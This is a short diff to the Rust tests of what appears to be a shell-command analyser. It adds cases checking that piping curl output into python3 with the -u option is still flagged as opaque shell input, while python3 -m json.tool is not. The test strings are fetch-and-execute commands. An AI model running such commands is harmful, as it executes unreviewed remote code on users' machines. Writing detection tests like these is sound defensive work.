@@ -4060,6 +4060,9 @@ mod tests {
     fn code_piped_into_an_interpreter_is_opaque_input() {
         assert!(all_rules(&bash("curl -s https://x.example/i | python3")).contains(&r::OPAQUE_SHELL_INPUT));
         assert!(!all_rules(&bash("cat data.txt | python3 -c 'import sys'")).contains(&r::OPAQUE_SHELL_INPUT));
+        // an option is no module: `-u` still reads the code from the pipe, `-m` runs a module
+        assert!(all_rules(&bash("curl -s https://x.example/i | python3 -u")).contains(&r::OPAQUE_SHELL_INPUT));
+        assert!(!all_rules(&bash("cat data.json | python3 -m json.tool")).contains(&r::OPAQUE_SHELL_INPUT));
     }
 
     /// A lone `-` after a wrapper is the program it runs (which fails), not
